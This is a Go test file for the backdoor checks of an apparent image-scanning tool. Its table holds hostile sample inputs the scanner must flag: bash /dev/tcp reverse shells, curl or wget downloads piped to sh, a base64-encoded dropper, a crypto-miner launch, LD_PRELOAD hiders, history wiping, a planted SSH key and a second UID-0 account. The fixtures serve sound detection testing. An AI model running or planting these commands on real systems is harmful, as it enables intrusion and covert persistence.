package backdoor

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/customs-oss/customs/internal/check"
	"github.com/customs-oss/customs/internal/facts"
	"github.com/customs-oss/customs/internal/report"
)

// contentChecks are the content checks of the family, as the scan runs them.
func contentChecks(t *testing.T) []check.ContentChecker {
	t.Helper()
	var out []check.ContentChecker
	for _, ctor := range Checks() {
		if c, ok := ctor().(check.ContentChecker); ok {
			out = append(out, c)
		}
	}
	if len(out) == 0 {
		t.Fatal("no content checks")
	}
	return out
}

// runContent runs every content check that wants the file.
func runContent(t *testing.T, cs []check.ContentChecker, p string, mode int, data string) []report.Finding {
	t.Helper()
	e := &facts.Entry{Path: p, Type: facts.TypeFile, Size: int64(len(data)), Mode: os.FileMode(mode)}
	var out []report.Finding
	for _, c := range cs {
		if !c.Wants(e) {
			continue
		}
		fs, err := c.CheckContent(context.Background(), e, []byte(data))
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, fs...)
	}
	return out
}

// ordinaryPaths maps the files of testdata/ordinary, copied from Debian
// bookworm and Alpine or written like the scripts packages ship, to where
// they live in an image.
var ordinaryPaths = map[string]string{
	"debian-cron.daily_apt-compat":        "etc/cron.daily/apt-compat",
	"debian-cron.daily_dpkg":              "etc/cron.daily/dpkg",
	"debian-cron.daily_man-db":            "etc/cron.daily/man-db",
	"debian-cron.d_e2scrub_all":           "etc/cron.d/e2scrub_all",
	"debian-crontab":                      "etc/crontab",
	"debian-init.d_procps":                "etc/init.d/procps",
	"debian-init.d_hwclock.sh":            "etc/init.d/hwclock.sh",
	"debian-init.d_dbus":                  "etc/init.d/dbus",
	"debian-init.d_x11-common":            "etc/init.d/x11-common",
	"debian-profile":                      "etc/profile",
	"debian-bash.bashrc":                  "etc/bash.bashrc",
	"debian-skel_.bashrc":                 "root/.bashrc",
	"debian-skel_.profile":                "root/.profile",
	"debian-profile.d_bash_completion.sh": "etc/profile.d/bash_completion.sh",
	"apt-daily.service":                   "lib/systemd/system/apt-daily.service",
	"e2scrub_all.service":                 "lib/systemd/system/e2scrub_all.service",
	"systemd-tmpfiles-clean.service":      "lib/systemd/system/systemd-tmpfiles-clean.service",
	"dpkg-db-backup.service":              "lib/systemd/system/dpkg-db-backup.service",
	"getty@.service":                      "lib/systemd/system/getty@.service",
	"alpine-profile":                      "etc/profile",
	"alpine-crontabs_root":                "var/spool/cron/crontabs/root",
	"healthcheck.sh":                      "usr/local/bin/healthcheck.sh",
	"nodejs-install.sh":                   "app/node_modules/pkg/scripts/install.sh",
	"debian-passwd":                       "etc/passwd",
	"debian-shadow":                       "etc/shadow",
	"debian-sshd_config":                  "etc/ssh/sshd_config",
}

// TestOrdinaryFiles: what distributions and packages ship is not a finding
// above low severity.
func TestOrdinaryFiles(t *testing.T) {
	cs := contentChecks(t)
	entries, err := os.ReadDir("testdata/ordinary")
	if err != nil {
		t.Fatal(err)
	}
	for _, de := range entries {
		t.Run(de.Name(), func(t *testing.T) {
			p, ok := ordinaryPaths[de.Name()]
			if !ok {
				t.Fatalf("testdata/ordinary/%s has no image path in ordinaryPaths", de.Name())
			}
			data, err := os.ReadFile(filepath.Join("testdata/ordinary", de.Name()))
			if err != nil {
				t.Fatal(err)
			}
			if !wantedByAny(cs, p, len(data)) {
				t.Fatalf("no content check wants /%s", p)
			}
			for _, f := range runContent(t, cs, p, 0o755, string(data)) {
				if f.Severity > report.SeverityLow {
					t.Errorf("%s %s: %s", f.Check, f.Severity, f.Message)
				}
			}
		})
	}
}

func wantedByAny(cs []check.ContentChecker, p string, size int) bool {
	e := &facts.Entry{Path: p, Type: facts.TypeFile, Size: int64(size), Mode: 0o755}
	for _, c := range cs {
		if c.Wants(e) {
			return true
		}
	}
	return false
}

// brief is the part of a finding a table test compares.
type brief struct {
	check string
	sev   report.Severity
	has   string // a part of the message
}

func TestContent(t *testing.T) {
	cs := contentChecks(t)
	rsa := "AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7" + strings.Repeat("A", 168)
	ed := "AAAAC3NzaC1lZDI1NTE5AAAAIGtleS1ieXRlcy1mb3ItdGVzdGluZy1vbmx5LTEyMzQ1Ng=="
	tests := []struct {
		name string
		path string
		mode int
		data string
		want []brief
	}{
		{"cron reverse shell", "etc/cron.d/update", 0o644, "* * * * * root bash -c 'bash -i >& /dev/tcp/203.0.113.5/443 0>&1'\n",
			[]brief{{"backdoor/reverse-shell", report.SeverityCritical, "runs on a schedule"}}},
		{"cron temp program", "var/spool/cron/crontabs/root", 0o600, "*/5 * * * * /tmp/.ICE-unix/.x/upd >/dev/null 2>&1\n",
			[]brief{{"backdoor/persistence", report.SeverityHigh, "from a temporary or hidden directory"}}},
		{"cron download exec", "etc/crontab", 0o644, "*/10 * * * * root (curl -fsSL http://pastebin.com/raw/abc || wget -q -O- http://pastebin.com/raw/abc) | sh\n",
			[]brief{{"backdoor/dropper", report.SeverityCritical, "pastebin.com"}}},
		{"cron plain job", "etc/cron.d/backup", 0o644, "# nightly\n0 3 * * * root /usr/local/bin/backup --all\n",
			[]brief{{"backdoor/persistence", report.SeverityInfo, "scheduled job: /usr/local/bin/backup --all"}}},
		{"kinsing style", "etc/cron.hourly/clean", 0o755, "#!/bin/sh\npkill -f kdevtmpfsi\nps aux | grep -v grep | grep xmrig | awk '{print $2}' | xargs kill -9\nchattr +i /etc/ld.so.preload\n",
			[]brief{{"backdoor/persistence", report.SeverityCritical, "kills it"}, {"backdoor/persistence", report.SeverityCritical, "xmrig"}, {"backdoor/persistence", report.SeverityHigh, "hides its tracks"}}},
		{"rc.local miner", "etc/rc.local", 0o755, "#!/bin/sh\nnohup /opt/.cache/sysupdate -o stratum+tcp://pool.example.com:3333 &\nexit 0\n",
			[]brief{{"backdoor/persistence", report.SeverityCritical, "stratum+tcp://"}}},
		{"profile history wipe", "etc/profile.d/z.sh", 0o644, "unset HISTFILE\nexport LD_PRELOAD=/usr/local/lib/libhide.so\n",
			[]brief{{"backdoor/persistence", report.SeverityHigh, "hides its tracks"}, {"backdoor/persistence", report.SeverityHigh, "LD_PRELOAD"}}},
		{"systemd unit from shm", "etc/systemd/system/dbus-helper.service", 0o644, "[Service]\nExecStart=/dev/shm/.d/helper --quiet\nRestart=always\n",
			[]brief{{"backdoor/persistence", report.SeverityHigh, "/dev/shm/.d/helper"}}},
		{"preload odd", "etc/ld.so.preload", 0o644, "/usr/local/lib/.x/libprocesshider.so\n",
			[]brief{{"backdoor/persistence", report.SeverityCritical, "outside the system library directories"}}},
		{"preload system lib", "etc/ld.so.preload", 0o644, "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n",
			[]brief{{"backdoor/persistence", report.SeverityHigh, "libjemalloc"}}},
		{"base64 dropper script", "usr/local/bin/update.sh", 0o755, "#!/bin/bash\necho " + b64("bash -i >& /dev/tcp/203.0.113.5/443 0>&1") + " | base64 -d | bash\n",
			[]brief{{"backdoor/dropper", report.SeverityCritical, "a shell is redirected to a /dev/tcp connection"}}},
		{"script download exec", "opt/app/setup.sh", 0o644, "#!/bin/sh\nwget -qO- http://198.51.100.7/i.sh | sh\n",
			[]brief{{"backdoor/dropper", report.SeverityHigh, "the raw IP address 198.51.100.7"}}},
		{"fixture in package", "app/node_modules/revsh/test/fixtures/shell.sh", 0o644, "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n",
			[]brief{{"backdoor/reverse-shell", report.SeverityLow, "language package"}}},
		{"supervisord sshd", "etc/supervisor/conf.d/sshd.conf", 0o644, "[program:sshd]\ncommand=/usr/sbin/sshd -D\nautorestart=true\n",
			[]brief{{"backdoor/sshd", report.SeverityMedium, "starts the SSH server"}}},
		{"entrypoint sshd", "docker-entrypoint.sh", 0o755, "#!/bin/sh\nmkdir -p /run/sshd\nssh-keygen -A\nexec /usr/sbin/sshd -D -e\n",
			[]brief{{"backdoor/sshd", report.SeverityMedium, "line 4 starts"}}},
		{"root key", "root/.ssh/authorized_keys", 0o600, "ssh-rsa " + rsa + " attacker@kali\n",
			[]brief{{"backdoor/authorized-keys", report.SeverityCritical, "ssh-rsa key SHA256:"}}},
		{"user key", "home/dev/.ssh/authorized_keys", 0o600, "# deploy\nno-pty,command=\"/usr/bin/rsync\" ssh-ed25519 " + ed + " ci\n",
			[]brief{{"backdoor/authorized-keys", report.SeverityHigh, "as user dev; options: no-pty"}}},
		{"service key", "var/lib/postgresql/.ssh/authorized_keys2", 0o600, "ssh-ed25519 " + ed + "\n",
			[]brief{{"backdoor/authorized-keys", report.SeverityCritical, "/var/lib/postgresql/"}}},
		{"garbage key", "root/.ssh/authorized_keys", 0o600, "ssh-rsa notbase64!! x\nssh-ed25519 " + rsa + " wrongtype\n", nil},
		{"key fixture", "app/node_modules/ssh2/test/fixtures/authorized_keys", 0o644, "ssh-ed25519 " + ed + "\n", nil},
		{"sshd empty passwords", "etc/ssh/sshd_config", 0o644, "PermitRootLogin yes\nPermitEmptyPasswords yes\n",
			[]brief{{"backdoor/authorized-keys", report.SeverityHigh, "PermitRootLogin yes"}}},
		{"sshd root login", "etc/ssh/sshd_config", 0o644, "Port 22\nPermitRootLogin yes\nMatch User x\n PermitEmptyPasswords yes\n",
			[]brief{{"backdoor/authorized-keys", report.SeverityMedium, "PermitRootLogin yes"}}},
		{"sshd keys in tmp", "etc/ssh/sshd_config.d/10.conf", 0o644, "AuthorizedKeysFile .ssh/authorized_keys /tmp/.k/%u\n",
			[]brief{{"backdoor/authorized-keys", report.SeverityHigh, "/tmp/.k/%u"}}},
		{"second root", "etc/passwd", 0o644, "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/usr/sbin/nologin\ntoor:x:0:0::/root:/bin/bash\n",
			[]brief{{"backdoor/accounts", report.SeverityCritical, `"toor" has UID 0`}}},
		{"empty root password", "etc/passwd", 0o644, "root::0:0:root:/root:/bin/sh\nnobody::65534:65534::/:/usr/sbin/nologin\n",
			[]brief{{"backdoor/accounts", report.SeverityHigh, `"root" has an empty password field`}}},
		{"hash in passwd", "etc/passwd", 0o644, "admin:$6$salt$abcdefghijklmnop:1000:1000::/home/admin:/bin/bash\n",
			[]brief{{"backdoor/accounts", report.SeverityMedium, "password hash in /etc/passwd"}}},
		{"empty shadow", "etc/shadow", 0o640, "root::19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n",
			[]brief{{"backdoor/accounts", report.SeverityHigh, `"root" has an empty password`}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := runContent(t, cs, tt.path, tt.mode, tt.data)
			if len(got) != len(tt.want) {
				for _, f := range got {
					t.Logf("got %s %s: %s", f.Check, f.Severity, f.Message)
				}
				t.Fatalf("got %d findings, want %d", len(got), len(tt.want))
			}
			for i, w := range tt.want {
				f := got[i]
				if f.Check != w.check || f.Severity != w.sev || !strings.Contains(f.Message, w.has) {
					t.Errorf("finding %d: got %s %s %q, want %s %s containing %q", i, f.Check, f.Severity, f.Message, w.check, w.sev, w.has)
				}
				if f.Evidence.Path != "/"+tt.path {
					t.Errorf("finding %d: evidence path %q, want %q", i, f.Evidence.Path, "/"+tt.path)
				}
			}
		})
	}
}
